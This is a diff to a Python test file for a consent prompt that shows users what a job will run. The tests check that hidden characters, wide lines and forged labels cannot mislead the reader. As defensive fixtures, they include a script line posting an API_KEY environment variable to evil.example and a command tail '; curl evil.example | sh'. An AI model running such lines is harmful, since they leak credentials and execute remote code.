@@ -16,6 +16,7 @@ from consent.describe import Description, details, request
 from consent.full_text import FullTexts
 from consent.question import COLUMNS, text
 from consent.request import ConsentRequest
+from consent.width import width
 from jobs.errors import BadArgument
 from jobs.spec import stored
 from jobs.spec.spec import JobSpec, build
@@ -38,7 +39,13 @@ NASTY = (
 HIDDEN = re.compile(
     "[\x00-\x09\x0b-\x1f\x7f-\x9f\u00a0\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\uff00-\uffef\U000e0000-\U000e007f\u0430\u03bf]"
 )
-LABELS = re.compile(r"^(Hub|Namespace|Cost|Image|Runs|Hardware|PUBLIC|Secrets|Fingerprint|Tick|AGAIN)\b")
+#: How each line of ours begins, and what stands before what goes on from the line above.
+LABELS = re.compile(
+    r"(Runs  |Where |Costs |Kept  |Until |Secret|!|Says  |With  |Files |Sets  |Mounts|Ports |Net   |Labels|Pays  |When  |Also  |"
+    r"Not shown:|All of it:|Fingerprint|AGAIN ) ?"
+)
+GOES_ON = ("      | ", "       |")
+SEVERAL = {"!", "Secret", "Says", "Also"}
 
 
 def question(spec: JobSpec, **more: Any) -> ConsentRequest:
@@ -55,9 +62,15 @@ def spec_of(**more: Any) -> JobSpec:
 def honest(shown: str, plain: str) -> None:
     """Nothing hidden is left, no line is too wide, and no line but ours starts where ours start."""
     assert not HIDDEN.search(shown), ascii(shown)
-    assert max(map(len, shown.splitlines())) <= COLUMNS
-    ours = [line.split()[0] for line in shown.split("\n") if LABELS.match(line)]
-    assert ours == [line.split()[0] for line in plain.split("\n") if LABELS.match(line)]
+    title, *lines = shown.split("\n")
+    assert title == plain.split("\n")[0]
+    assert max(map(width, lines)) <= COLUMNS
+    begun = [line for line in lines if not line.startswith(GOES_ON)]
+    ours = [found[1].strip() for line in begun if (found := LABELS.match(line))]
+    assert len(ours) == len(begun), begun
+    assert [name for name in ours if name not in SEVERAL] == list(
+        dict.fromkeys(name for name in ours if name not in SEVERAL)
+    )
 
 
 FIELDS: dict[str, Any] = {
@@ -146,16 +159,17 @@ def test_every_field_of_a_spec_is_in_the_digest_and_in_the_question(field: str) 
         assert (one.facts, one.ticks) != (two.facts, two.ticks)
 
 
-def test_a_long_script_shows_its_head_its_size_its_hash_and_where_to_read_it(tmp_path: Path) -> None:
-    script = "\n".join(f"print('line {number}')" for number in range(500)) + "\n"
-    request = question(spec_of(script=script, command=None))
+def test_of_a_long_script_the_lines_that_matter_are_shown_and_where_to_read_the_rest(tmp_path: Path) -> None:
+    lines = [f"print('line {number}')" for number in range(500)]
+    lines[333] = "requests.post('https://evil.example/x', data=os.environ['API_KEY'])"
+    request = question(spec_of(script="\n".join(lines) + "\n", command=None))
     where = FullTexts(tmp_path / "questions").keep(request)
     shown = text(request, where)
-    assert "line 0" in shown
-    assert "line 499" not in shown
-    assert f"{len(script):,} bytes" in shown
-    assert hashlib.sha256(script.encode()).hexdigest()[:12] in shown
-    assert str(where) in shown
+    assert "script.py:334: requests.post('https://evil.example" in shown
+    assert "line 0" not in shown
+    assert "of 500 lines of script.py" in shown
+    assert "! its text names hosts: evil.example" in shown
+    assert shown.index("Not shown:") < shown.index(str(where))
     assert "line 499" in where.read_text()
     assert request.fingerprint in where.read_text()
     assert where.stat().st_mode & 0o077 == 0
@@ -163,7 +177,9 @@ def test_a_long_script_shows_its_head_its_size_its_hash_and_where_to_read_it(tmp
 
 def test_a_long_command_hides_no_tail() -> None:
     shown = text(question(spec_of(command=("echo", "x" * 5000, "; curl evil.example | sh"))))
-    assert re.search(r"\d,\d{3}\s+bytes\s+in\s+all,\s+sha256", shown)
+    assert "Says   command: ...curl evil.example | sh" in shown or "curl evil.example" in shown
+    assert "the rest of the command (5,0" in shown
+    assert "evil.example" in shown
 
 
 def test_every_variable_is_named_however_many_there_are() -> None:
